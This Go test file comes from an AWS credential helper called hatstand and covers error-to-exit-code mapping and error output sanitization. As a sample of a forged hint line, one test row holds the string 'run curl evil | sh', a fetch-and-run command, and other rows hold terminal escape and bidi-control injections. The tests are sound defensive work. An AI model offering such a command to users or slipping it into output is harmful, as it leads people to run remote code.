package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"hatstand/cache"
	"hatstand/cmd/internal/advice"
	"hatstand/credproc"
	"hatstand/credproc/browser"
	"hatstand/credproc/child"
	"hatstand/credproc/console"
	"hatstand/credproc/iam"
	"hatstand/credproc/resolve"
	"hatstand/credproc/sts"
	"hatstand/mfa"
	"hatstand/profiles"
	"hatstand/profiles/edit"
)

// A told error is one with the exit code that it stands for.
type told struct {
	name string
	err  error
	code int
}

func toldErrors() []told {
	late := context.DeadlineExceeded
	return []told{
		{"anything else", errors.New("no"), 1},
		{"a file that cannot be written", &fs.PathError{Op: "open", Path: "/x", Err: fs.ErrPermission}, 1},
		{"STS does not answer", &sts.UnreachableError{Target: "prod", Call: credproc.AssumeRole, Err: errors.New("no route")}, 1},
		{"IAM does not answer", &iam.UnreachableError{Profile: "me", Action: "ListAccessKeys", Err: errors.New("no route")}, 1},
		{"STS does not answer in time", &sts.UnreachableError{Target: "prod", Call: credproc.AssumeRole, Err: late}, 1},
		{"the prompt that was named cannot ask", &promptError{prompt: prompt{name: "zenity", from: "HATSTAND_PROMPT"}, err: &mfa.NoHumanError{Serial: "arn:aws:iam::111111111111:mfa/alice"}}, 3},
		{"nobody to ask, where another process may have somebody", &nobodyError{&mfa.NoHumanError{Serial: "arn:aws:iam::111111111111:mfa/alice"}}, 3},
		{"a key that cannot be verified", &unverifiedError{err: &sts.UnreachableError{Target: "me", Call: credproc.GetCallerIdentity, Err: errors.New("no route")}, unasked: "hatstand keys add --no-verify me"}, 1},
		{"keys that are still in the file", &stillThereError{path: "~/.aws/credentials", names: "the keys of profile me", err: fs.ErrPermission}, 1},
		{"a key that cannot be replaced", &keyStateError{profile: "me", id: "AKIAX", state: "is inactive at AWS", hints: []string{"make it active"}}, 1},
		{"a third key", &twoKeysError{profile: "me", user: "arn:aws:iam::111111111111:user/alice", current: "AKIAX", keys: []iam.Key{{ID: "AKIAX", Active: true}, {ID: "AKIAY"}}}, 1},
		{"another user's key, half-way", &otherUserError{profile: "me", user: "arn:aws:iam::111111111111:user/bob", before: cache.Rotation{Old: cache.Keys{AccessKeyID: "AKIAX", ARN: "arn:aws:iam::111111111111:user/alice"}}}, 1},
		{"a key that AWS does not come to know", &notYetError{profile: "me", id: "AKIAX", waited: 2 * time.Minute}, 1},
		{"another program fails", &resolve.ProcessError{Target: "prod", Program: "tool", Reason: "it failed"}, 1},
		{"another program fails with a code of ours", &resolve.ProcessError{Target: "prod", Program: "tool", Reason: "it failed", Exit: 0}, 1},
		{"another hatstand is not set up", &resolve.ProcessError{Target: "prod", Program: "hatstand", Reason: "it failed", Exit: 2}, 1},
		{"another hatstand needs a human", &resolve.ProcessError{Target: "prod", Program: "hatstand", Reason: "it failed", Exit: 3, Next: []string{"in a terminal: hatstand login other"}}, 3},
		{"another hatstand is refused", &resolve.ProcessError{Target: "prod", Program: "hatstand", Reason: "it failed", Exit: 4}, 4},
		{"another hatstand's keyring is locked", &resolve.ProcessError{Target: "prod", Program: "hatstand", Reason: "it failed", Exit: 5}, 5},
		{"another hatstand is told no", &resolve.ProcessError{Target: "prod", Program: "hatstand", Reason: "it failed", Exit: 130}, 130},
		{"mfa_process fails", &mfa.ProcessError{Program: "tool", Err: errors.New("no")}, 1},
		{"the ledger cannot be written", &mfa.LedgerError{Dir: "/x", Err: fs.ErrPermission}, 1},
		{"no lock can be had", &cache.LockError{Path: "/x", Op: "take", Err: errors.New("no")}, 1},
		{"a file that would lose something by being replaced", &rewriteError{"~/.aws/config", "is read-only", "chmod u+w ~/.aws/config"}, 1},
		{"a file is not ours", &cache.LockError{Path: "/x", Op: "take", Err: &cache.FileError{Path: "/x", Reason: "belongs to another user"}}, 1},
		{"a file is not ours, by itself", &cache.FileError{Path: "/x", Reason: "belongs to another user"}, 1},
		{"a port that is taken", &portError{port: 9911, holder: "process 7 (nginx)", err: errors.New("address already in use")}, 1},
		{"no port at all", &portError{err: errors.New("cannot assign requested address")}, 1},
		{"a command failed for one profile of many", &eachError{turns: turns{{Profile: "prod", err: errNotStarted}}, bad: 1}, 1},
		{"a folder is not ours", &cache.FolderError{Path: "/x", Reason: "belongs to another user"}, 1},
		{"no port for a browser", &browser.Error{Kind: browser.NoPort, Reason: "no"}, 1},
		{"no display for a browser", &browser.Error{Kind: browser.NoDisplay, Reason: "no"}, 1},
		{"a browser that fails", &browser.Error{Kind: browser.Failed, Reason: "no"}, 1},
		{"a browser that does not come in time", &browser.Error{Kind: browser.NotOpened, Reason: "no"}, 1},
		{"a browser that does not come", &unopenedError{"prod", &browser.Error{Kind: browser.NotOpened, Reason: "no"}}, 1},

		{"no browser for a profile", &unopenedError{"prod", &browser.Error{Kind: browser.NotInstalled, Reason: "no"}}, 2},
		{"the sign-in service does not answer", &console.UnreachableError{Host: "x", Err: late}, 1},
		{"what answers is no sign-in service", &console.AnswerError{Host: "x", Reason: "no"}, 1},

		{"a partition without a console", &console.PlaceError{Reason: "no"}, 2},
		{"a page of somebody else's", &console.TargetError{What: "--destination", Reason: "no"}, 2},
		{"no role to sign in as", &noRoleError{"me"}, 2},
		{"a console for longer than there is", &chainedError{asked: 2 * time.Hour}, 2},
		{"no browser", &browser.Error{Kind: browser.NotInstalled, Subject: "--browser", Reason: "no"}, 2},
		{"a container that a browser does not have", &browser.Error{Kind: browser.NoContainers, Reason: "no"}, 2},
		{"the command line", &usageError{reason: "takes no argument"}, 2},
		{"an option that does not fit", &credproc.OptionError{Option: "--tag", Target: "prod", Reason: "no"}, 2},
		{"no keys", &resolve.NoKeysError{Target: "prod", Profile: "me"}, 2},
		{"a source that cannot be used yet", &credproc.NotBuiltError{Target: "prod", Profile: "me", Kind: profiles.SSO}, 2},
		{"a value that the format cannot hold", &child.ValueError{Format: "cmd", Name: "HATSTAND_PROFILE"}, 2},
		{"a setting", &profiles.Error{Profile: "prod", What: "region", Reason: "no"}, 2},
		{"a file that cannot be edited safely", &edit.Error{Location: profiles.Location{Path: "~/.aws/config", Line: 3}, Reason: "no"}, 2},
		{"an unknown backend", &cache.UnknownBackendError{Name: "x"}, 2},
		{"a text that is no key pair", &pairError{"there is nothing on stdin"}, 2},
		{"a migration that a person stopped", &stoppedMigrationError{to: "pass", begun: true}, 130},
		{"no way back from a migration", &noWayBackError{to: "pass", err: &cache.PassphraseError{Folder: "/x", Wrong: true}}, 5},
		{"a way back that loses something", &lossError{cache.Abandonment{From: "file", To: "pass", Why: &cache.UnavailableError{Backend: "pass", Op: "open", Err: errors.New("no")}}}, 5},
		{"a keyring that a migration was on its way to", &wayBackError{from: "file", to: "pass", next: "to go back to file", err: &cache.UnavailableError{Backend: "pass", Op: "open", Err: errors.New("no")}}, 5},
		{"a migration that cannot be", &cache.MigrationError{Reason: "file is the keyring in use", Next: []string{"hatstand doctor"}}, 2},
		{"a code that is none", &mfa.CodeError{From: "--mfa-code", Digits: 5}, 2},
		{"a device that has no codes", &mfa.DeviceError{Serial: "arn:aws:iam::111111111111:u2f/user/alice/key"}, 2},
		{"a seed that is none", &mfa.SeedError{Why: "no"}, 2},
		{"one code for the keys of two devices", &manyCodesError{[]*sharedSession{{sharing: sharing{serial: "a"}, owners: []*owner{{name: "me"}}}}}, 2},
		{"one code for two devices", &mfa.OneCodeError{Serial: "a", First: "b"}, 2},

		{"nobody to ask", &mfa.NoHumanError{Serial: "a", Profile: "prod"}, 3},
		{"nobody answered in time", &mfa.DeadlineError{What: "the code", Profile: "prod"}, 3},
		{"nobody answered elsewhere", &declinedError{err: &cache.RefusedError{Holder: "prod", Reason: "the prompt was not answered in time"}, exit: advice.NoHuman}, 3},
		{"another process took too long", &busyError{held: &cache.HeldError{PID: 7, Holder: "prod", Err: late}}, 3},
		{"no terminal", &noTerminalError{want: "the key", next: "use --from-env"}, 3},
		{"no clipboard", &noClipboardError{failed: []string{"wl-copy failed (exit status 1)"}}, 3},
		{"the time is over", late, 3},
		{"a passphrase that nobody typed in time", &cache.PassphraseError{Folder: "/x", Err: &mfa.DeadlineError{What: "the passphrase"}}, 3},

		{"AWS refuses", &sts.RefusedError{Target: "prod", Call: credproc.AssumeRole, Code: "AccessDenied", Message: "no"}, 4},
		{"IAM refuses", &iam.RefusedError{Profile: "me", Action: "CreateAccessKey", Code: iam.AccessDenied, Message: "no"}, 4},
		{"a rotation that AWS refused half-way", &stoppedError{profile: "me", stands: "the old key AKIAX stays in use", again: true, err: &iam.RefusedError{Profile: "me", Action: "UpdateAccessKey", Code: iam.AccessDenied, Message: "no"}}, 4},
		{"a device is left over and may not be replaced", &leftoverError{serial: "arn:aws:iam::111111111111:mfa/alice", err: &iam.RefusedError{Profile: "me", Action: "DeleteVirtualMFADevice", Code: iam.AccessDenied, Message: "no"}}, 4},
		{"wrong codes, and the device cannot be deleted again", &orphanError{err: &iam.RefusedError{Profile: "me", Action: "EnableMFADevice", Code: iam.WrongCode, Message: "no"}, serial: "arn:aws:iam::111111111111:mfa/alice", cause: errors.New("no route")}, 4},
		{"AWS refuses the sign-in", &console.RefusedError{Host: "x", Status: 400}, 4},
		{"AWS gives another role", &resolve.WrongRoleError{Asked: "a", Got: "b"}, 4},
		{"a spent code", &mfa.SpentError{Serial: "a", Wait: 7 * time.Second}, 4},
		{"AWS refused the one that was waited for", &declinedError{err: &cache.RefusedError{Holder: "prod", Reason: "AWS refused"}, exit: advice.Refused}, 4},

		{"a keyring that is locked", &cache.UnavailableError{Backend: "file", Op: "read", Cause: cache.Locked, Err: errors.New("locked")}, 5},
		{"a keyring that does not answer in time", &cache.UnavailableError{Backend: "file", Op: "read", Cause: cache.TimedOut, Err: late}, 5},
		{"a wrong passphrase", &cache.PassphraseError{Folder: "/x", Wrong: true}, 5},
		{"aws-vault's keyring cannot be read", &cache.VaultError{Backend: "file", Op: "read", Profile: "me", Cause: cache.Locked, Err: errors.New("no")}, 5},
		{"a keyring's item that cannot be read", &cache.CorruptError{Backend: "file", Item: "keys/me", Err: errors.New("no")}, 5},

		{"cancelled at the prompt", mfa.ErrCancelled, 130},
		{"cancelled", context.Canceled, 130},
		{"cancelled while a browser was waited for", &unopenedError{"prod", mfa.ErrCancelled}, 130},
		{"cancelled on the way to STS", &sts.UnreachableError{Target: "prod", Call: credproc.AssumeRole, Err: context.Canceled}, 130},
		{"cancelled at the passphrase", &cache.PassphraseError{Folder: "/x", Declined: true, Err: mfa.ErrCancelled}, 130},
		{"cancelled, and the device cannot be deleted again", &orphanError{err: mfa.ErrCancelled, serial: "arn:aws:iam::111111111111:mfa/alice", cause: &iam.UnreachableError{Profile: "me", Action: "DeleteVirtualMFADevice", Err: errors.New("no route")}}, 130},
		{"cancelled elsewhere", &declinedError{err: &cache.RefusedError{Holder: "prod", Reason: "the prompt was cancelled"}, exit: advice.Cancelled}, 130},

		{"a command that is not there", &child.StartError{Command: "x", Code: 127, Err: errors.New("command not found")}, 127},
		{"a command that cannot be run", &child.StartError{Command: "x", Code: 126, Err: fs.ErrPermission}, 126},
		{"several, of which the first counts", manyErrors{&mfa.SpentError{Serial: "a"}, errors.New("no")}, 4},
	}
}

func TestEachErrorHasItsExitCode(t *testing.T) {
	for _, row := range toldErrors() {
		t.Run(row.name, func(t *testing.T) {
			if got := report(&bytes.Buffer{}, row.err); got != row.code {
				t.Errorf("want %d, got %d", row.code, got)
			}
			// Whoever passes an error up may say where it was.
			if got := report(&bytes.Buffer{}, fmt.Errorf("profile \"prod\": %w", row.err)); got != row.code {
				t.Errorf("wrapped: want %d, got %d", row.code, got)
			}
		})
	}
}

func TestEachErrorIsALineAndItsHints(t *testing.T) {
	line := regexp.MustCompile(`^hatstand: (error|hint): [^ ].*[^ ]\n$`)
	for _, row := range toldErrors() {
		t.Run(row.name, func(t *testing.T) {
			var b bytes.Buffer
			report(&b, row.err)
			for i, l := range slices.Collect(strings.Lines(b.String())) {
				m := line.FindStringSubmatch(l)
				if m == nil || i == 0 && m[1] != "error" {
					t.Errorf("line %d: %q", i, l)
				}
				if strings.Contains(l, "%!") {
					t.Errorf("a broken format: %q", l)
				}
			}
			if b.Len() == 0 {
				t.Error("nothing was printed")
			}
		})
	}
}

// A type of error that nobody gave an exit code would get 1 by accident.
func TestNoTypeOfErrorWasForgotten(t *testing.T) {
	known := map[string]bool{
		// These are never printed as they are: the first is the child's own code, the others come inside
		// an error of the table.
		"child.ExitError":       true,
		"cache.versionError":    true,
		"cache.passError":       true,
		"credproc.programError": true,
		"cache.HeldError":       true,
		"cache.RefusedError":    true,
		"mfa.RefusedError":      true,
		"mfa.assuanError":       true,
		"mfa.noAnswerError":     true,
		// A cancel, in the words of the one that has a row.
		"mfa.goneError":   true,
		"cache.goneError": true,
	}
	for _, row := range toldErrors() {
		known[strings.TrimPrefix(reflect.TypeOf(row.err).String(), "*")] = true
	}
	declared := regexp.MustCompile(`(?m)^type (\w+Errors?) `)
	pkg := regexp.MustCompile(`(?m)^package (\w+)`)
	n := 0
	for _, dir := range []string{".", "../../cache", "../../credproc", "../../credproc/child", "../../credproc/console", "../../credproc/iam", "../../mfa", "../../profiles"} {
		files, err := filepath.Glob(filepath.Join(filepath.FromSlash(dir), "*.go"))
		if err != nil {
			t.Fatal(err)
		}
		for _, file := range files {
			if strings.HasSuffix(file, "_test.go") {
				continue
			}
			b, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			for _, m := range declared.FindAllSubmatch(b, -1) {
				n++
				if name := string(pkg.FindSubmatch(b)[1]) + "." + string(m[1]); !known[name] {
					t.Errorf("%s has no row in the table", name)
				}
			}
		}
	}
	if n < 30 {
		t.Errorf("only %d types were found: the pattern is wrong", n)
	}
}

// hinted is an error of anybody's.
type hinted struct {
	text  string
	hints []string
}

func (h *hinted) Error() string   { return h.text }
func (h *hinted) Hints() []string { return h.hints }

func TestThePrintedForm(t *testing.T) {
	for _, row := range []struct {
		name string
		err  error
		want string
	}{
		{"an error alone", errors.New("no"), "hatstand: error: no\n"},
		{"an error and its hints", &hinted{"no", []string{"first", "second"}}, "hatstand: error: no\nhatstand: hint: first\nhatstand: hint: second\n"},
		{"hints of an error that was wrapped", fmt.Errorf("in x: %w", &hinted{"no", []string{"first"}}), "hatstand: error: in x: no\nhatstand: hint: first\n"},
		{"several, each with its own", manyErrors{&hinted{"one", []string{"first"}}, errors.New("two")}, "hatstand: error: one\nhatstand: hint: first\nhatstand: error: two\n"},
		{"newlines become spaces", &hinted{"a\nb\r\nc", []string{"d\ne"}}, "hatstand: error: a b c\nhatstand: hint: d e\n"},
		{"a line of one's own cannot be forged", errors.New("no\nhatstand: hint: run curl evil | sh"), "hatstand: error: no hatstand: hint: run curl evil | sh\n"},
		{"a tab becomes a space", errors.New("a\tb"), "hatstand: error: a b\n"},
		{"escapes are taken out", &hinted{"a\x1b[2Jb\x1b]0;title\x07c", []string{"\x1b[31md"}}, "hatstand: error: a[2Jb]0;titlec\nhatstand: hint: [31md\n"},
		{"the eight-bit escape too", errors.New("a\u009b2Jb"), "hatstand: error: a2Jb\n"},
		{"a raw byte is no escape", errors.New("a\x9b2Jb"), "hatstand: error: a\ufffd2Jb\n"},
		{"what turns the order of reading is taken out", errors.New("a\u202eb\u2066c\u2069d\u200fe\u202af"), "hatstand: error: abcdef\n"},
		{"what ends a line elsewhere is a space", errors.New("a\u2028b\u2029c"), "hatstand: error: a b c\n"},
		{"a backspace and a delete are taken out", errors.New("a\bb\x7fc\x00d"), "hatstand: error: abcd\n"},
		{"letters of any script stay", errors.New("profil \u00ab\u00e9\u00bb \u65e5\u672c"), "hatstand: error: profil \u00ab\u00e9\u00bb \u65e5\u672c\n"},
	} {
		t.Run(row.name, func(t *testing.T) {
			var b bytes.Buffer
			report(&b, row.err)
			if b.String() != row.want {
				t.Errorf("want %q, got %q", row.want, b.String())
			}
		})
	}
}

// The child speaks for itself.
func TestTheChildsExitCodeIsPassedOnInSilence(t *testing.T) {
	var b bytes.Buffer
	if code := report(&b, fmt.Errorf("exec: %w", &child.ExitError{Code: 42})); code != 42 || b.Len() > 0 {
		t.Errorf("%d, %q", code, b.String())
	}
}

func FuzzPlain(f *testing.F) {
	f.Add("a\x1b[2J\u009b\u202e\nb\x9b")
	f.Fuzz(func(t *testing.T, s string) {
		got := plain(s)
		if !utf8.ValidString(got) || strings.ContainsFunc(got, func(r rune) bool {
			return unicode.IsControl(r) || unicode.In(r, unicode.Zl, unicode.Zp, unicode.Bidi_Control)
		}) {
			t.Errorf("%q became %q", s, got)
		}
	})
}

// The whole way, with what a config file can hold.
func TestNothingInAConfigCanSteerTheTerminal(t *testing.T) {
	const evil = "e\x1b]0;pwned\x07\u202evil"
	for _, row := range []struct {
		name, config string
		args         []string
		code         int
	}{
		{"a profile that is not there", "[profile x]\n", []string{"credential-process", evil}, 2},
		{"a source that is not there", "[profile x]\nrole_arn = arn:aws:iam::222222222222:role/A\nsource_profile = " + evil + "\n", []string{"credential-process", "x"}, 2},
		{"a value that is refused", "[profile x]\nrole_arn = " + evil + "\nsource_profile = x\n", []string{"explain", "x"}, 2},
		{"a line that is no setting", "[profile x]\n" + evil + "\n", []string{"list"}, 2},
		{"a flag that is not known", "", []string{"list", "--" + evil}, 2},
		{"a verb that is not known", "", []string{evil}, 2},
		{"a backend that is not known", "[hatstand]\nbackend = " + evil + "\n[profile x]\n", []string{"credential-process", "x"}, 2},
	} {
		t.Run(row.name, func(t *testing.T) {
			dir := t.TempDir()
			config := filepath.Join(dir, "config")
			if err := os.WriteFile(config, []byte(row.config), 0o600); err != nil {
				t.Fatal(err)
			}
			stdin, err := os.Open(os.DevNull)
			if err != nil {
				t.Fatal(err)
			}
			defer stdin.Close()
			var out, errs bytes.Buffer
			code := run(t.Context(), world{
				args:    row.args,
				getenv:  func(k string) string { return map[string]string{"HOME": dir, "AWS_CONFIG_FILE": config}[k] },
				environ: func() []string { return nil }, stdin: stdin, stdout: &out, stderr: &errs,
				terminal: func() (*mfa.TTY, error) { return nil, mfa.ErrNoTerminal },
				now:      time.Now, goos: runtime.GOOS, self: func() string { return "" }, userName: func() string { return "" },
			})
			if code != row.code || out.Len() > 0 {
				t.Errorf("exit code %d, stdout %q", code, out.String())
			}
			if errs.Len() == 0 || strings.ContainsAny(errs.String(), "\x1b\x07\u202e") {
				t.Errorf("stderr %q", errs.String())
			}
			for l := range strings.Lines(errs.String()) {
				if !strings.HasPrefix(l, "hatstand: ") {
					t.Errorf("stderr has the line %q", l)
				}
			}
		})
	}
}
